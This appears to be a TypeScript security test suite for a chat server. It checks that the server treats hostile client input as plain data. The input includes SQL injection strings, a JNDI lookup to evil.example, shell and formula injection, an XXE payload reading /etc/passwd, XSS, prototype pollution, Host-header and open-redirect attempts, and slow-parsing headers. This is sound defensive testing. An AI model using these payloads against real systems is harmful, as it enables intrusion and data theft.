import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { sendRequest, expectProblem, invalidFields } from './support/http.js';
import { closeSockets, PASSWORD, register, startHub, type TestHub, type TestPerson } from './support/hub.js';
import { sendRaw } from './support/raw-http.js';

/**
 * The total time limit for parsing all inputs that are slow to parse, on a loaded machine, in milliseconds. Exponential
 * processing time would exceed any limit.
 */
const TIME_LIMIT_MS = 30_000;

const HOSTILE = [
  `Robert'); drop table messages; --`,
  `' or '1'='1`,
  `" or ""="`,
  `1; select pg_sleep(60)`,
  `\\'; delete from users; --`,
  '$1 $2 :name ? ?? %s %n %d {0} ${jndi:ldap://evil.example/x} {{7*7}} <%= 7*7 %> #{7*7}',
  '=cmd|/c calc!A1',
  `$(touch /tmp/pwned) \`id\` | & ; > x`,
  '\\input{/etc/passwd} \\write18{id}',
  '*)(uid=*))(|(uid=*',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<svg onload=alert(1)>&lt;b&gt;&amp;amp;%3Cscript%3E',
  'set x 0 0 1\\r\\nx\\r\\nBcc: a@b.example',
  '(a+)+$ .* [^]* (?=x)',
];

describe('input of a client', () => {
  const folder = mkdtempSync(join(tmpdir(), 'hub-page-'));
  let hub: TestHub;
  let ana: TestPerson;
  let ben: TestPerson;
  beforeAll(async () => {
    mkdirSync(join(folder, '.git'));
    for (const name of ['index.html', '.git/config', '.env', '.htaccess']) writeFileSync(join(folder, name), 'kept');
    hub = await startHub({ TRUST_PROXY: '1' }, undefined, { page: folder });
    [ana, ben] = await Promise.all([register(hub, 'Ana'), register(hub, 'Ben')]);
  });
  afterEach(closeSockets);
  afterAll(async () => {
    await hub.close();
    rmSync(folder, { recursive: true });
  });

  const search = (q: string) => sendRequest(hub, `GET /api/users?${new URLSearchParams({ q })}`, { token: ana.token });

  it('is stored and returned unchanged, even if it is code in SQL, HTML or another language', async () => {
    const [anaSocket, benSocket] = [await ana.connect(), await ben.connect()];
    for (const content of HOSTILE) {
      const sent = await anaSocket.send({ receiverId: ben.id, content });
      expect([sent.content, (await benSocket.next('new_message')).content]).toEqual([content, content]);
      const { body } = await sendRequest(hub, `GET /api/messages/${sent.conversation.id}`, { token: ben.token });
      expect((body as { content: string }[]).at(-1)).toMatchObject({ content });
    }
    const [row] = await hub.sql.rows<{ count: number }>('select count(*)::integer as count from messages');
    expect(row!.count).toBe(HOSTILE.length);
  });

  it('is treated as data by the search and the login, and finds no other user', async () => {
    const people = await Promise.all(HOSTILE.slice(0, 5).map((name) => register(hub, name)));
    for (const [index, name] of HOSTILE.slice(0, 5).entries()) {
      const { status, body } = await search(name);
      const found = (body as { id: string }[]).map(({ id }) => id);
      expect([name, status, found]).toEqual([name, 200, expect.arrayContaining([people[index]!.id])]);
      expect(found).not.toContain(ben.id);
      const json = { email: name, password: name };
      expect((await sendRequest(hub, 'POST /api/auth/login', { json })).status).toBeGreaterThanOrEqual(400);
      expect((await sendRequest(hub, 'POST /api/auth/login', { json })).status).toBeLessThan(500);
      for (const path of ['conversations', 'messages', 'users', 'insights'])
        expect(
          invalidFields(await sendRequest(hub, `GET /api/${path}/${encodeURIComponent(name)}`, { token: ana.token })),
        ).toHaveLength(1);
    }
  });

  it('is treated as data by the look-up of a whole e-mail address', async () => {
    for (const email of ["o'neil@example.com", "'or'1'='1@example.com", "a'--@example.com"]) {
      const json = { email, password: PASSWORD };
      expectProblem(await sendRequest(hub, 'POST /api/auth/login', { json }), 'auth.credentials_invalid');
      expect(await search(email)).toMatchObject({ status: 200, body: [] });
    }
  });

  it('is URL-decoded only once', async () => {
    const [encoded, plain] = [await register(hub, '%41lpha once'), await register(hub, 'Alpha once')];
    const idsFoundBy = async (query: string) =>
      ((await sendRequest(hub, `GET /api/users?q=${query}`, { token: ana.token })).body as { id: string }[]).map(
        ({ id }) => id,
      );

    expect(await idsFoundBy('%2541lpha')).toEqual([encoded.id]);
    expect(await idsFoundBy('%41lpha')).toEqual([plain.id]);
  });

  it('cannot change prototypes or other objects of the server by the name of a field', async () => {
    const account = { name: 'Eve', email: 'eve@example.com', password: PASSWORD };
    const fields = JSON.stringify(account).slice(1, -1);
    const headers = { 'content-type': 'application/json' };
    for (const field of ['__proto__', 'constructor', 'prototype', 'toString']) {
      const body = `{"${field}":{"polluted":true,"name":"x"},${fields}}`;
      expect(invalidFields(await sendRequest(hub, 'POST /api/auth/register', { body, headers }))).toEqual([field]);
      const query = `GET /api/users?${field}[polluted]=1&${field}.polluted=1`;
      expectProblem(await sendRequest(hub, query, { token: ana.token }), 'request.invalid');
    }
    const [anaSocket, benSocket] = [await ana.connect(), await ben.connect()];
    const payload = JSON.parse(
      `{"receiverId":"${ben.id}","content":"unchanged","__proto__":{"polluted":true,"seq":7}}`,
    );
    const sent = await anaSocket.emitRaw('send_message', payload);
    expect(sent).toMatchObject({ content: 'unchanged' });
    expect(await benSocket.next('new_message')).not.toHaveProperty('polluted');
    expect({}).not.toHaveProperty('polluted');
  });

  it('is refused if a number is out of range or malformed', async () => {
    const anaSocket = await ana.connect();
    const { conversation } = await anaSocket.send({ receiverId: ben.id, content: 'counted' });
    for (const number of ['-1', '1.5', '1e309', 'NaN', 'Infinity', '0x10', '9007199254740993', '9'.repeat(40), '']) {
      for (const key of ['before', 'after', 'around', 'limit']) {
        const line = `GET /api/messages/${conversation.id}?${key}=${number}`;
        expect([line, invalidFields(await sendRequest(hub, line, { token: ana.token }))]).toEqual([line, [key]]);
      }
    }
    for (const rev of [-1, 1.5, 2 ** 53, 1e308, '1', null]) {
      const json = { conversations: { [conversation.id]: rev } };
      expect(invalidFields(await sendRequest(hub, 'POST /api/sync', { json, token: ana.token }))).toHaveLength(1);
    }
  });

  it('cannot keep the server busy by being slow to parse', async () => {
    const spaces = ' '.repeat(7000);
    const dots = 'a.'.repeat(3000);
    const started = performance.now();
    const hostile: readonly Record<string, string>[] = [
      { authorization: `Bearer${spaces}x` },
      { cookie: `hub_polling${spaces}=${'x;'.repeat(2000)}` },
      { accept: `text/html${',a/b;q=0.1'.repeat(700)}` },
      { 'accept-encoding': `br${',gzip;q=0.1'.repeat(700)}!` },
      { range: `bytes=${'0-0,'.repeat(1700)}!` },
      { 'if-none-match': `"x"${spaces},`.repeat(2) },
      { origin: `https://${dots}!` },
      { 'content-type': `application/json;${spaces}charset${spaces.slice(200)}!` },
      { 'x-forwarded-for': `${'1:'.repeat(3000)}!` },
    ];
    for (const headers of hostile)
      for (const path of ['/', '/api/health', '/socket.io/?EIO=4&transport=polling'])
        expect((await sendRequest(hub, `GET ${path}`, { headers })).status).toBeLessThan(500);
    for (const email of [`a@${dots}!`, `${dots}@b.co`, `${'a@'.repeat(3000)}b`, `"${'\\'.repeat(5000)}@b.co`])
      expect((await sendRequest(hub, 'POST /api/auth/login', { json: { email, password: 'x' } })).status).toBeLessThan(
        500,
      );
    const long = [`${'aA1'.repeat(80)}!`, 'a'.repeat(254), '\u0301'.repeat(200), `${'\u200d'.repeat(200)}x`];
    for (const text of long) {
      expect((await search(text)).status).toBeLessThan(500);
      const json = { name: text, email: 'x', password: text };
      expectProblem(await sendRequest(hub, 'POST /api/auth/register', { json }), 'request.invalid');
    }
    expect(performance.now() - started).toBeLessThan(TIME_LIMIT_MS);
  });

  it('cannot override the HTTP method by a header or a parameter', async () => {
    for (const name of ['x-http-method-override', 'x-http-method', 'x-method-override']) {
      const headers = { [name]: 'DELETE' };
      expect((await sendRequest(hub, 'GET /api/users/profile?_method=DELETE', { token: ana.token })).status).toBe(200);
      expect((await sendRequest(hub, 'GET /api/users/profile', { token: ana.token, headers })).status).toBe(200);
      const login = { json: { email: ana.email, password: PASSWORD }, headers };
      expect((await sendRequest(hub, 'POST /api/auth/login', login)).status).toBe(200);
    }
  });

  it('is refused with every content type that a page of another origin can send without a preflight request', async () => {
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', '']) {
      const body = new TextEncoder().encode(JSON.stringify({ email: ana.email, password: PASSWORD }));
      const headers: Record<string, string> = type === '' ? {} : { 'content-type': type };
      expectProblem(await sendRequest(hub, 'POST /api/auth/login', { body, headers }), 'request.unsupported');
    }
  });

  it.each(['application/xml', 'text/xml', 'application/soap+xml', 'application/yaml', 'application/graphql'])(
    'is not parsed as %s',
    async (type) => {
      const headers = { 'content-type': type };
      const body = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>';
      expectProblem(await sendRequest(hub, 'POST /api/auth/login', { body, headers }), 'request.unsupported');
      const json = { query: '{ __schema { types { name } } }' };
      for (const path of ['/graphql', '/api/graphql'])
        expectProblem(await sendRequest(hub, `POST ${path}`, { json }), 'route.not_found');
    },
  );

  it('cannot set the host of a URL that the server writes', async () => {
    const anaSocket = await ana.connect();
    const { conversation } = await anaSocket.send({ receiverId: ben.id, content: 'one' });
    await anaSocket.send({ receiverId: ben.id, content: 'two' });
    const headers = `Host: evil.example\r\nX-Forwarded-Host: evil.example\r\nForwarded: host=evil.example\r\n`;
    for (const path of ['/', '/api/docs', `/api/messages/${conversation.id}?limit=1`, '/nothing', '/api/docs-json']) {
      for (const target of [path, `http://evil.example${path}`]) {
        const bytes = `GET ${target} HTTP/1.1\r\n${headers}Accept: text/html\r\nAuthorization: Bearer ${ana.token}\r\nConnection: close\r\n\r\n`;
        const [response] = await sendRaw(hub.url, bytes);
        expect(JSON.stringify([...response!.headers, response!.body])).not.toContain('evil.example');
        if (path.includes('limit')) expect(response!.headers.get('link')).toMatch(/^<\/api\/messages\//);
      }
    }
  });

  it('cannot cause a redirect to another server', async () => {
    const withoutPage = await startHub({}, hub.database, { nodes: 1 });
    const targets = [
      '//evil.example',
      '/\\evil.example',
      '/%2f%2fevil.example',
      '/?next=//evil.example',
      '/@evil.example',
    ];
    for (const { url } of [hub, withoutPage]) {
      for (const target of [...targets, ...targets.map((path) => `/api/docs${path}`), '/']) {
        const [response] = await sendRaw(url, `GET ${target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
        expect([target, [null, '/api/docs']]).toEqual([
          target,
          expect.arrayContaining([response!.headers.get('location')]),
        ]);
      }
    }
    await withoutPage.stop();
  });

  it('cannot request a hidden file or a list of files', async () => {
    expect((await sendRequest(hub, 'GET /index.html')).body).toBe('kept');
    for (const path of ['/.git/config', '/.git/', '/.env', '/.htaccess', '/assets/', '/icons/'])
      expect([path, (await sendRequest(hub, `GET ${path}`)).status]).toEqual([path, 404]);
  });
});
